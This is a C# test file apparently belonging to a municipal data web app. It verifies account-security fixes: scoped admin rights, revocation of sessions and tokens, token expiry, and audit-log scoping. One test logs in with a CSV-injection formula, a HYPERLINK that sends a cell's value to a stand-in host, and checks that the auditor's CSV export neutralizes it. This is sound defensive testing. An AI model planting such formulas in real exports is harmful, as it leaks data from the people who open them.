using System.Net;
using Microsoft.Extensions.DependencyInjection;
using Yardstick.Data;
using Yardstick.Data.Access;
using Yardstick.Data.Values;
using Yardstick.Testing;

namespace Yardstick.Web.Tests;

/// <summary>
/// What a tester broke, tried again: a county security admin taking over accounts outside its county or raising itself;
/// sessions and tokens that outlived sign-out, disabling, lockout and password resets; tokens that never expired; an
/// auditor reading the whole city's log; sign-in names of any length written to the log. Each test makes its own accounts.
/// </summary>
public abstract class AccountSecurityTests(WebApp app)
{
    private async Task<string> AccountAsync(string name, string role, string scope)
    {
        await using var services = app.Services.CreateAsyncScope();
        var db = services.ServiceProvider.GetRequiredService<YardstickDb>();
        (await UserAccounts.CreateAsync(services.ServiceProvider, db, name, role, scope, WebApp.Password, mustChangePassword: false, DateTimeOffset.UtcNow))
            .ShouldBeEmpty();
        return services.ServiceProvider.GetRequiredService<AccessDb>().Users.Single(u => u.UserName == name).Id;
    }

    private static Task<HttpResponseMessage> AdminPostAsync(HttpClient admin, string handler, Dictionary<string, string> fields) =>
        WebApp.PostFormAsync(admin, "/Admin/Users", "/Admin/Users?handler=" + handler, fields);

    [Fact]
    public async Task A_county_security_admin_manages_only_accounts_inside_its_county_and_never_raises_itself()
    {
        var self = await AccountAsync("sec_kq", Roles.Security, WebApp.Kerqin);
        var cityPlanner = await AccountAsync("planner_city_2", Roles.Planner, WebApp.City);
        var township = await AccountAsync("rep_dalin_2", Roles.Reporter, WebApp.Dalin);
        using var admin = await app.SignInAsync("sec_kq");

        var page = await admin.GetStringAsync("/Admin/Users");
        page.ShouldContain("rep_dalin_2");
        page.ShouldNotContain("planner_city_2");
        page.ShouldNotContain("secadmin");

        // A city account: no reset, no unlock, no disabling, no new role.
        foreach (var (handler, extra) in new (string, Dictionary<string, string>)[]
        {
            ("Reset", []), ("Unlock", []), ("Disable", new() { ["disable"] = "true" }), ("RevokeTokens", []),
            ("Grant", new() { ["role"] = Roles.Reporter, ["orgunit"] = WebApp.Dalin }),
        })
        {
            extra["id"] = cityPlanner;
            var refused = await AdminPostAsync(admin, handler, extra);
            refused.StatusCode.ShouldBe(HttpStatusCode.Forbidden, handler);
            (await refused.Content.ReadAsStringAsync()).ShouldContain("该账号不在您的机构范围内");
        }
        using (await app.SignInAsync("planner_city_2"))
        {
            // Still the old password: the reset never happened.
        }

        // Itself: no new role, no reset.
        var raise = await AdminPostAsync(admin, "Grant", new() { ["id"] = self, ["role"] = Roles.Admin, ["orgunit"] = WebApp.Kerqin });
        raise.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await raise.Content.ReadAsStringAsync()).ShouldContain("不能修改自己的账号");
        (await AdminPostAsync(admin, "Reset", new() { ["id"] = self })).StatusCode.ShouldBe(HttpStatusCode.Forbidden);

        // An account inside: not moved out of the county, not made a peer security admin; a township role is fine.
        (await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Auditor, ["orgunit"] = WebApp.City }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Security, ["orgunit"] = WebApp.Kerqin }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await AdminPostAsync(admin, "Create", new() { ["name"] = "new_city_admin", ["role"] = Roles.Admin, ["orgunit"] = WebApp.City }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        var granted = await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Viewer, ["orgunit"] = WebApp.Qianjia });
        granted.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await granted.Content.ReadAsStringAsync()).ShouldContain("已更新 rep_dalin_2");
    }

    [Fact]
    public async Task Signing_out_ends_the_session_a_saved_cookie_included()
    {
        await AccountAsync("leaver", Roles.Viewer, WebApp.City);
        var jar = new CookieContainer();
        using var browser = await app.SignInAsync("leaver", jar: jar);
        (await browser.GetAsync("/")).StatusCode.ShouldBe(HttpStatusCode.OK);
        var saved = jar.GetCookieHeader(app.BaseAddress);

        (await WebApp.PostFormAsync(browser, "/", "/Account/Logout", [])).StatusCode.ShouldBe(HttpStatusCode.Redirect);

        using var replay = app.Client();
        replay.DefaultRequestHeaders.Add("Cookie", saved);
        var answer = await replay.GetAsync("/");
        answer.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        answer.Headers.Location!.ToString().ShouldContain("/Account/Login");
    }

    [Fact]
    public async Task Disabling_a_resetting_and_a_lockout_end_cookies_and_tokens_at_once()
    {
        using var secadmin = await app.SignInAsync("secadmin");
        foreach (var (name, act) in new (string, Func<string, Task>)[]
        {
            ("to_disable", async id => (await AdminPostAsync(secadmin, "Disable", new() { ["id"] = id, ["disable"] = "true" })).StatusCode.ShouldBe(HttpStatusCode.OK)),
            ("to_reset", async id => (await AdminPostAsync(secadmin, "Reset", new() { ["id"] = id })).StatusCode.ShouldBe(HttpStatusCode.OK)),
            ("to_lock", async _ =>
            {
                for (var i = 0; i < IdentityRules.MaxFailedAttempts; i++)
                {
                    await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = "to_lock", ["password"] = "wrong-Pass-1" });
                }
            }),
        })
        {
            var id = await AccountAsync(name, Roles.Reporter, WebApp.Dalin);
            using var browser = await app.SignInAsync(name);
            using var api = app.TokenClient(await app.TokenAsync(name));
            (await browser.GetAsync("/Entry")).StatusCode.ShouldBe(HttpStatusCode.OK, name);
            (await api.GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.OK, name);

            await act(id);

            (await browser.GetAsync("/Entry")).Headers.Location!.ToString().ShouldContain("/Account/Login", customMessage: name);
            (await api.GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized, name);
        }
        var refused = await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = "to_disable", ["password"] = WebApp.Password });
        (await refused.Content.ReadAsStringAsync()).ShouldContain("账号已停用");
    }

    [Fact]
    public async Task Tokens_expire_and_are_listed_made_and_revoked_on_the_account_page()
    {
        await AccountAsync("token_holder", Roles.Viewer, WebApp.City);
        string expired;
        await using (var scope = app.Services.CreateAsyncScope())
        {
            var access = scope.ServiceProvider.GetRequiredService<AccessDb>();
            var holder = access.Users.Single(u => u.UserName == "token_holder");
            expired = await IdentityRules.CreateTokenAsync(access, holder, "old", DateTimeOffset.UtcNow.AddDays(-10), TimeSpan.FromDays(1));
        }
        (await app.TokenClient(expired).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);

        using var browser = await app.SignInAsync("token_holder");
        var made = await WebApp.PostFormAsync(browser, "/Account/TwoFactor", "/Account/TwoFactor?handler=CreateToken", new() { ["label"] = "报表脚本", ["days"] = "30" });
        var page = await made.Content.ReadAsStringAsync();
        var token = System.Text.RegularExpressions.Regex.Match(page, "<code>(ys_[^<]+)</code>").Groups[1].Value;
        token.ShouldStartWith("ys_");
        page.ShouldContain("报表脚本");
        (await app.TokenClient(token).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.OK);

        var id = System.Text.RegularExpressions.Regex.Matches(page, "name=\"id\" value=\"(\\d+)\"").Select(m => m.Groups[1].Value).Last();
        (await WebApp.PostFormAsync(browser, "/Account/TwoFactor", "/Account/TwoFactor?handler=RevokeToken", new() { ["id"] = id })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await app.TokenClient(token).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task An_auditor_reads_only_entries_filed_under_its_own_subtree()
    {
        await AccountAsync("aud_kq", Roles.Auditor, WebApp.Kerqin);
        await AccountAsync("city_victim", Roles.Viewer, WebApp.City);
        using var secadmin = await app.SignInAsync("secadmin");
        var victim = await app.WithDbAsync(async _ =>
        {
            await using var scope = app.Services.CreateAsyncScope();
            return scope.ServiceProvider.GetRequiredService<AccessDb>().Users.Single(u => u.UserName == "city_victim").Id;
        });
        (await AdminPostAsync(secadmin, "Reset", new() { ["id"] = victim })).StatusCode.ShouldBe(HttpStatusCode.OK);
        using var kerqin = await app.SignInAsync("kerqin");
        (await WebApp.PostFormAsync(kerqin, "/Entry", "/Entry", new()
        {
            ["dataset"] = "TL14",
            ["orgunit"] = WebApp.Kerqin,
            ["period"] = "2022",
            ["v[childcare_slots]"] = "5813",
        })).StatusCode.ShouldBe(HttpStatusCode.OK);

        using var countyAuditor = await app.SignInAsync("aud_kq");
        var county = await countyAuditor.GetStringAsync("/Audit");
        county.ShouldContain("5813");
        county.ShouldNotContain("city_victim");
        (await countyAuditor.GetStringAsync("/Audit?handler=Csv")).ShouldNotContain("city_victim");

        using var cityAuditor = await app.SignInAsync("auditor");
        var city = await cityAuditor.GetStringAsync("/Audit");
        city.ShouldContain("city_victim");
        city.ShouldContain("5813");
    }

    [Fact]
    public async Task A_sign_in_name_longer_than_any_account_can_have_is_refused_and_not_logged()
    {
        var name = new string('x', IdentityRules.MaxUserNameLength + 1);
        var answer = await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = name, ["password"] = "whatever-1A" });
        (await answer.Content.ReadAsStringAsync()).ShouldContain("用户名或密码错误");
        (await app.WithDbAsync(db => AuditLog.ReadAsync(db))).ShouldNotContain(e => e.Key == name);
    }
}

public sealed class SqliteAccountSecurityTests(SqliteWebApp app) : AccountSecurityTests(app), IClassFixture<SqliteWebApp>;

public sealed class PostgresAccountSecurityTests(PostgresWebApp app) : AccountSecurityTests(app), IClassFixture<PostgresWebApp>;

/// <summary>Input a tester sent to break the app for others: absurd values, spreadsheet formulas in names.</summary>
public abstract class HostileInputTests(WebApp app)
{
    private static StringContent Value(string unit, string element, string value) => new(
        $$"""{"dataValues":[{"dataElement":"{{element}}","period":"2023","orgUnit":"{{unit}}","value":"{{value}}"}]}""",
        System.Text.Encoding.UTF8, "application/json");

    [Fact]
    public async Task An_absurd_value_is_refused_with_a_reason_and_the_citys_pages_keep_working()
    {
        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
        var refused = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "beds_total", "10000000000000000000"));
        refused.StatusCode.ShouldNotBe(HttpStatusCode.OK);
        (await refused.Content.ReadAsStringAsync()).ShouldContain("超出合理范围");
        var tiny = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "total_health_expenditure", "0.000000001"));
        (await tiny.Content.ReadAsStringAsync()).ShouldContain("小数位数超过");

        using var planner = await app.SignInAsync("planner");
        (await planner.GetAsync("/")).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await planner.GetAsync("/api/plans/TL14/evaluation?children=true")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_sign_in_name_written_as_a_formula_is_text_in_the_auditors_csv()
    {
        const string formula = "=HYPERLINK(\"http://x/?leak=\"&B2,\"点我\")";
        await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = formula, ["password"] = "whatever-1A" });
        using var auditor = await app.SignInAsync("auditor");
        var csv = await auditor.GetStringAsync("/Audit?handler=Csv");
        csv.ShouldContain("'=HYPERLINK");
        csv.ShouldNotContain(",=HYPERLINK");
        csv.ShouldNotContain(",\"=HYPERLINK");
    }
}

public sealed class SqliteHostileInputTests(SqliteWebApp app) : HostileInputTests(app), IClassFixture<SqliteWebApp>;
